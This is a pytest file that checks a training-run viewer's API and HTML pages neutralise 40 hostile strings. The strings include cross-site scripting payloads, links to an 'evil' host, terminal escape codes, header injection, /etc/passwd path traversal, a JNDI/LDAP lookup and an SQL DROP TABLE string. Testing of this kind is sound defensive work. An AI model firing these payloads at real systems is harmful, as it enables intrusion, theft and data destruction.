"""40 hostile texts, wherever a run can hold text: they arrive as they are, and act nowhere."""

import json
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import pytest

from roll.journal.events import GroupFailed, HackSuspected
from roll.types import Status
from roll.watch.encoding import encode
from roll.watch.plain import visible
from tests.watch.runs import Client, RunWriter, attempt, serving

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    "<style>*{display:none}</style>",
    "<!--",
    "-->",
    "]]>",
    "</pre><b>",
    "</td></tr></table><h1>x",
    "<meta http-equiv=refresh content=0;url=//evil>",
    "<base href=//evil/>",
    "<form action=//evil><button>",
    "<link rel=stylesheet href=//evil>",
    "<object data=//evil>",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[1;1H",
    "\x1b]8;;http://evil\x07link\x1b]8;;\x07",
    "\x9b31m",
    "\x00null",
    "\x08\x08\x08back",
    "\r\nSet-Cookie: a=b\r\n\r\n<b>",
    "\u202egnp.exe",
    "\u2028alert(1)\u2029",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\x00.css",
    "C:\\CON",
    "${jndi:ldap://evil}",
    "{{7*7}}",
    "'; DROP TABLE samples; --",
    "%00%0d%0a<b>",
    "\U000e0001" * 50,
]


class Elements(HTMLParser):
    """Tags and attributes of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags, self.attributes, self.texts = set[str](), list[tuple[str, str | None]](), list[str]()
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


SAFE = {
    *("html", "head", "meta", "title", "link", "body", "h1", "h2", "h3", "p", "a", "table", "tr", "th", "td", "pre"),
    *("form", "label", "input", "button", "details", "summary"),
}


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory):
    folder = tmp_path_factory.mktemp("runs")
    run = RunWriter(folder / "run")
    for number, text in enumerate(HOSTILE):
        named = {"prompt": text, "task": text, "domain": text, "metrics": {"m": 1.0}}
        group = run.group(attempt(**named), attempt(sibling=1, status=Status.ENV_FAILED, reason=text, **named))
        run.journal.record(GroupFailed(group=group, reason=text))
        run.journal.record(HackSuspected(step=1, domain=text, sign="rise", reason=text, attempts=(f"{number}.0",)))
    run.metrics.write(1, {f"domain/{text}/reward": 0.5 for text in HOSTILE})
    run.close()
    with serving(folder) as client:
        client.settle("run")
        yield client


def test_there_are_forty_texts() -> None:
    assert len(HOSTILE) == len(set(HOSTILE)) == 40


def test_every_answer_is_json_that_could_not_act_in_a_page_either(client: Client) -> None:
    views = (
        "state",
        "overview",
        "metrics",
        "samples?limit=500",
        "facets",
        "rewards",
        "faults",
        "notices",
        "scheduler",
        "config",
    )
    for view in (*views, "config"):
        answer = client.get(f"/api/runs/run/{view}")
        assert answer.status == 200 and answer.headers["Content-Type"].startswith("application/json"), view
        assert not set(answer.body) & set(b"<>&"), view
        assert all(byte >= 32 for byte in answer.body), view


def test_texts_arrive_as_they_are(client: Client) -> None:
    rows = client.json("/api/runs/run/samples?limit=500&sort=id")["rows"]
    assert [row["prompt"] for row in rows[::2]] == [text[:200] for text in HOSTILE]
    assert [row["domain"] for row in rows[::2]] == HOSTILE
    assert {row["reason"] for row in rows[1::2]} == set(HOSTILE)
    for row, text in zip(rows[::2], HOSTILE, strict=True):
        sample = client.json(f"/api/runs/run/samples/{row['id']}")
        assert sample["conversation"][0]["text"] == text == sample["sample"]["task"]
        (first, _) = client.json(f"/api/runs/run/samples?domain={quote(text.replace(',', ''))}&sort=id")["rows"]
        assert first["id"] == row["id"]
    notices = client.json("/api/runs/run/notices?limit=1000")["notices"]
    assert {notice["text"] for notice in notices} == set(HOSTILE)


def test_plain_pages_have_no_element_or_attribute_from_a_text(client: Client) -> None:
    rows = client.json("/api/runs/run/samples?limit=500")["rows"]
    addresses = ["/plain", "/plain/run", *(f"/plain/run/{row['id']}" for row in rows)]
    addresses += [f"/plain/run?{name}={quote(text)}" for text in HOSTILE for name in ("text", "domain")]
    for address in addresses:
        page = client.get(address).body.decode()
        elements = Elements(page)
        assert elements.tags <= SAFE, (address, elements.tags - SAFE)
        assert {name for name, _ in elements.attributes} <= {
            *("lang", "charset", "rel", "href", "name", "value", "method"),
        }
        links = [value or "" for name, value in elements.attributes if name == "href"]
        assert all(link.startswith(("/plain", "/assets/", "?")) for link in links), address
        assert not any(ord(character) < 32 and character not in "\n\t" for character in page), address
        assert "\x1b" not in page and "\x9b" not in page and "\u202e" not in page


def test_names_of_runs_are_only_names(tmp_path: Path) -> None:
    names = [text for text in HOSTILE if "/" not in text and "\0" not in text and len(text.encode()) < 200]
    for name in names:
        run = tmp_path / name
        run.mkdir()
        (run / "config.yaml").write_text("steps: 1\n")
    with serving(tmp_path) as client:
        assert [run["run"] for run in client.json("/api/runs")["runs"]] == sorted(names)
        for name in names:
            assert client.json(f"/api/runs/{quote(name, safe='')}/state")["run"] == name
        assert Elements(client.get("/plain").body.decode()).tags <= SAFE


def test_halves_of_surrogate_pairs_and_numbers_that_json_lacks_are_encoded() -> None:
    value = {"text": "\ud83d <b>", "number": float("nan"), "list": [float("inf"), 1.5], 3: "int"}
    assert json.loads(encode(value)) == {"text": "\ud83d <b>", "number": None, "list": [None, 1.5], "3": "int"}
    assert json.loads(encode({"number": float("nan"), "set": {1}})) == {"number": None, "set": [1]}


def test_control_characters_are_shown_as_escapes() -> None:
    assert visible("a\x1b[2Jb\u202ec\nd") == "a\\x1b[2Jb\\u202ec\nd" and visible(0.123456789) == "0.12346"


def test_a_huge_text_is_cut_and_its_tokens_come_in_pages(tmp_path: Path) -> None:
    from tests.watch.runs import turn

    run = RunWriter(tmp_path / "run")
    run.group(attempt(turn("q", "x" * 250_000)))
    run.close()
    with serving(tmp_path) as client:
        client.settle("run")
        (row,) = client.json("/api/runs/run/samples")["rows"]
        sample = client.json(f"/api/runs/run/samples/{row['id']}?tokens_from=249999&tokens_limit=10")
    assert sample["cut"] and len(sample["turns"][0]["response"]) == 200_000
    assert sample["tokens"]["total"] == 250_001 and sample["tokens"]["text"] == ["x", "x"]
    assert len(row["response"]) == 200
